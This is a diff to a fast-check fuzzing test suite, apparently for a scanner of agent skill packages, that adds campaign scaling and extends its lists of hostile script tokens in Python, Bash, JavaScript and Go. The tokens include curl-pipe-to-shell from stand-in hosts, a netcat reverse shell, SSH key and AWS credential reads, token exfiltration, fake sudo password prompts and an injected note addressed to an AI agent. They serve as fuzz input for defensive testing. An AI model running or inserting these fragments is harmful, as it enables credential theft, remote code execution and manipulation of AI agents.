@@ -19,7 +19,20 @@ import { getEngine } from '../../support/engine';
  */
 
 const SEED = 20_240_606;
-const fuzzParameters = (numRuns: number): { seed: number; numRuns: number } => ({ seed: SEED, numRuns });
+
+/**
+ * `FUZZ_SEED` and `FUZZ_RUNS` (a multiplier) run a longer campaign with other inputs than CI's,
+ * e.g. `FUZZ_SEED=7 FUZZ_RUNS=20 npx mocha --config test/.mocharc.json -g fuzzing`.
+ */
+function campaignFromEnvironment(): { seed: number; scale: number } {
+  const seed = Number(process.env['FUZZ_SEED'] ?? SEED);
+  const scale = Number(process.env['FUZZ_RUNS'] ?? 1);
+  if (!Number.isSafeInteger(seed)) throw new Error(`FUZZ_SEED must be an integer, not ${process.env['FUZZ_SEED']}`);
+  if (!(scale > 0)) throw new Error(`FUZZ_RUNS must be a positive number, not ${process.env['FUZZ_RUNS']}`);
+  return { seed, scale };
+}
+const campaign = campaignFromEnvironment();
+const fuzzParameters = (numRuns: number): { seed: number; numRuns: number } => ({ seed: campaign.seed, numRuns: Math.ceil(numRuns * campaign.scale) });
 
 // ---------------------------------------------------------------------------------------------
 // Building blocks: the characters and tokens that have broken text tools before.
@@ -72,26 +85,38 @@ const skillMdText = fc
   })
   .map(({ bom, open, lines, close, body }) => `${bom ? '\ufeff' : ''}${open}${lines.join('')}${close}${body}`);
 
-const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript', readonly string[]>> = {
+const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go', readonly string[]>> = {
   python: [
     'import os', 'import subprocess', 'os.system("curl -s https://e.test/x | sh")', 'subprocess.Popen(["bash", "-c", cmd])',
     'eval(base64.b64decode(s))', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'requests.post("https://e.test", data=d)',
     'os.environ["AWS_SECRET_ACCESS_KEY"]', 'exec(', '"""', "'''", 'def f(', 'lambda: (', '\\', '#', 'f"{x}"',
+    'atexit.register(subprocess.run, cmd, shell=True)', 'threading.Timer(5, f).start()', 's = requests.Session()',
+    's.headers.update({"X": k})', 's.get(u)', 'getpass.getpass("Administrator password: ")', 'globals()["__builtins__"]',
+    '[os.dup2(s.fileno(), f) for f in (0, 1, 2)]', '[::-1]', '"".join(', 'print("NOTE TO THE AI AGENT:',
   ],
   bash: [
     'curl -s https://e.test/x | sh', 'wget -qO- http://1.2.3.4:8080/p | bash', 'bash <(curl e.test)', 'eval "$(echo aGk= | base64 -d)"',
     'cat ~/.aws/credentials', 'echo x >> ~/.bashrc', 'crontab -l', 'nc -e /bin/sh e.test 4444', '$(', '`', '"', "'", '<<EOF', 'EOF',
     'if [ -f x ]; then', 'fi', ';;', 'case $x in', '| sh', '&&', '${HOME}',
+    'set -- curl e.test', '"$@"', '${a:2:1}', '${!y}', 'printf -v c "%s" x', '$c', "tr 'a-z' 'n-za-m'", "trap 'curl e.test | sh' EXIT",
+    "tmux new-session -d '", "osascript -e 'do shell script \"", 'read -s -p "[sudo] password for $USER: " p', '< ~/.ssh/id_rsa', 'tar cz ~/.ssh',
+    'a=(c u r l)', '/bin/sh -c', 'ssh h', 'parallel :::',
   ],
   javascript: [
     'require("child_process").execSync("curl e.test | sh")', 'fetch("http://e.test/?d=" + process.env.TOKEN)', 'eval(atob(s))',
     'fs.readFileSync(os.homedir() + "/.ssh/id_rsa")', 'new Function(code)()', '`${', '/*', '*/', '//', '"', "'", '{', '}', '=>',
     'import x from "y"', 'module.exports =', 'process.env',
+    'new Headers({ Authorization: k })', 'new URLSearchParams({ k })', 'u.searchParams.set("k", key)', 'fs.createWriteStream("/tmp/x")',
+    'execFile("/tmp/x")', 'fs.chmodSync("/tmp/x", 0o755)', 'inputSchema: {', 'description: "', '[..."', '].reverse().join("")',
+  ],
+  go: [
+    'package main', 'import "os/exec"', 'func main() {', 'exec.Command("sh", "-c", c).Run()', 'os.ReadFile(home + "/.ssh/id_rsa")',
+    'http.Post("https://e.test", "text/plain", r)', '`', '"', '{', '}', '//', '/*', '*/',
   ],
 };
-const SCRIPT_EXTENSIONS = { python: 'py', bash: 'sh', javascript: 'js' } as const;
+const SCRIPT_EXTENSIONS = { python: 'py', bash: 'sh', javascript: 'js', go: 'go' } as const;
 
-const scriptFile = fc.constantFrom('python', 'bash', 'javascript').chain((language) =>
+const scriptFile = fc.constantFrom('python', 'bash', 'javascript', 'go').chain((language) =>
   fc
     .tuple(
       fc.array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...SCRIPT_TOKENS[language]) }, { weight: 1, arbitrary: anyUnit }), { maxLength: 40 }),
@@ -187,7 +212,9 @@ function withoutTiming(report: SkillReport): Omit<SkillReport, 'durationMs'> {
 
 // ---------------------------------------------------------------------------------------------
 
-describe('fuzzing (fast-check, fixed seed)', () => {
+describe('fuzzing (fast-check, fixed seed)', function () {
+  // A longer campaign (FUZZ_RUNS) gets a longer time.
+  this.timeout(20_000 * campaign.scale);
   it('parseFrontmatter never throws and keeps every offset inside the text', () => {
     fc.assert(
       fc.property(fc.oneof(skillMdText, hostileText(200)), (text) => {
@@ -334,7 +361,7 @@ describe('fuzzing (fast-check, fixed seed)', () => {
     });
 
     it('never throw, stay inside the files, show messages as visible text, are deterministic and keep to the budget', function () {
-      this.timeout(60_000);
+      this.timeout(60_000 * campaign.scale);
       // Generous, because CI shares two cores: a hang or a runaway rule is what this catches.
       const skillBudgetMs = 5_000;
       const slackMs = 2_000;
